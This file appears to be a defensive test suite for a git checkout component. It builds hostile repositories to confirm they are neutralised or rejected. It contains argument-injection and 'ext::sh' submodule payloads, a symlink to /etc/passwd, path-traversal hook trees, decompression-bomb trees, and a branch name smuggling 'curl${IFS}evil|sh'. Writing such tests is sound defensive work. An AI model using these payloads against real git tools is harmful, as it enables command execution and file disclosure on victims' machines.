import assert from 'node:assert/strict';
import { lstat, mkdtemp, readdir, readFile, realpath, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { execa } from 'execa';
import type { GitCheckout } from '../../../src/domain/source/git-source.ts';
import { createGit } from '../../../src/git/git.ts';
import { credentialsOf, type GitHost, startGitHost } from '../../support/git-host.ts';

// Runs in test:all: it attacks with repositories.

let host: GitHost;
let home: string;

before(async () => {
  home = await mkdtemp(join(await realpath(tmpdir()), 'chandlery-checkouts-'));
  host = await startGitHost();
});
after(async () => {
  await host.stop();
  await rm(home, { recursive: true, force: true });
});

/** One line of `git mktree`: mode, type, object, name. */
type Entry = readonly [mode: string, type: string, object: string, name: string];

async function git(args: readonly string[], input = ''): Promise<string> {
  const env = {
    GIT_AUTHOR_NAME: 'Eve',
    GIT_AUTHOR_EMAIL: 'eve@example.com',
    GIT_COMMITTER_NAME: 'Eve',
    GIT_COMMITTER_EMAIL: 'eve@example.com',
  };
  return (await execa('git', ['--git-dir', join(host.root, 'catalog.git'), ...args], { input, env })).stdout;
}

async function blob(text: string): Promise<string> {
  return await git(['hash-object', '-w', '--stdin'], text);
}

/** Writes the tree itself: `git mktree` refuses what attackers write. */
async function tree(entries: readonly Entry[]): Promise<string> {
  const parts = entries.map(([mode, , object, name]) =>
    Buffer.concat([Buffer.from(`${mode.replace(/^0/, '')} ${name}\0`), Buffer.from(object, 'hex')]),
  );
  const { stdout } = await execa(
    'git',
    ['--git-dir', join(host.root, 'catalog.git'), 'hash-object', '-t', 'tree', '-w', '--literally', '--stdin'],
    {
      input: Buffer.concat(parts),
    },
  );
  return stdout;
}

async function publish(root: string, branch = 'main'): Promise<void> {
  await git(['update-ref', `refs/heads/${branch}`, await git(['commit-tree', root, '-m', 'Attack'])]);
  await git(['symbolic-ref', 'HEAD', `refs/heads/${branch}`]);
}

async function checkout(): Promise<GitCheckout> {
  const credentials = credentialsOf(host);
  const reader = createGit({ homeDir: home, allowEgress: ['127.0.0.0/8', '::1/128'], certificateAuthorities: [] });
  return await reader.checkout({ source: 'hostile', git: { url: host.url, path: '' }, credentials }, new AbortController().signal);
}

describe('a hostile repository', () => {
  it('leaves no link, no submodule and no filter behind', async () => {
    const submodule = await blob('[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/x\n');
    await publish(
      await tree([
        ['100644', 'blob', await blob('a: 1\n'), '--upload-pack=touch'],
        ['100644', 'blob', await blob('* filter=evil\n'), '.gitattributes'],
        ['100644', 'blob', submodule, '.gitmodules'],
        ['120000', 'blob', await blob('/etc/passwd'), 'link.yaml'],
        ['160000', 'commit', '1'.repeat(40), 'x'],
      ]),
    );
    const { folder } = await checkout();
    assert.ok((await lstat(join(folder, 'link.yaml'))).isFile());
    assert.equal(await readFile(join(folder, 'link.yaml'), 'utf8'), '/etc/passwd');
    assert.deepEqual(await readdir(join(folder, 'x')), []);
  });

  it('is rejected with a path that leaves its folder', async () => {
    const hooks = await tree([['100755', 'blob', await blob('#!/bin/sh\ntouch /tmp/x\n'), 'post-checkout']]);
    const entries: readonly Entry[] = [
      ['40000', 'tree', hooks, '../../escape'],
      ['40000', 'tree', hooks, '.GIT'],
    ];
    for (const entry of entries) {
      await publish(await tree([entry]));
      await assert.rejects(checkout(), /git rejects an object in it as broken or dangerous/, entry[3]);
    }
    assert.ok(!(await readdir(home, { recursive: true })).some((file) => file.endsWith('post-checkout')));
  });

  it('is rejected before anything is written, when few objects stand for many files', async () => {
    let folder = await tree([['100644', 'blob', await blob('a: 1\n'), 'a.yaml']]);
    for (let depth = 0; depth < 8; depth += 1) {
      const below = folder;
      folder = await tree(Array.from({ length: 10 }, (_, index): Entry => ['40000', 'tree', below, String(index)]));
    }
    await publish(folder);
    await assert.rejects(checkout(), /more refs or files than Chandlery reads|it may have 20,000 files/);
  });

  it('is rejected before anything is written, when small objects stand for large files', async () => {
    const zeros = await blob('\0'.repeat(8 * 1024 * 1024));
    await publish(await tree(Array.from({ length: 30 }, (_, index): Entry => ['100644', 'blob', zeros, `${index}.yaml`.padStart(8, '0')])));
    await assert.rejects(checkout(), /has 30 files of 240 MiB; it may have 20,000 files of 200 MiB together/);
  });

  it('cannot put a command into what people copy by the name of its branch', async () => {
    await publish(await tree([['100644', 'blob', await blob('a: 1\n'), 'a.yaml']]), 'main;curl${IFS}evil|sh');
    assert.match((await checkout()).revision, /^HEAD@sha1:[0-9a-f]{40}$/);
  });
});
